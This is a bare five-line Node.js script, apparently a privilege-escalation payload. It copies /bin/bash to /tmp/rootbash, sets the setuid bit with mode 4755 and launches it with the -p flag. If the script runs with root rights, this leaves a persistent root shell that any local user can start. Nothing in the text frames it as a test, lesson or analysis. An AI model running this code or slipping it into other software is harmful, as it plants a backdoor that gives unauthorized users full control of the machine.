const fs = require('fs');
const cp = require('child_process');
fs.copyFileSync('/bin/bash', '/tmp/rootbash');
fs.chmodSync('/tmp/rootbash', 0o4755);
cp.execFileSync('/tmp/rootbash', ['-p']);
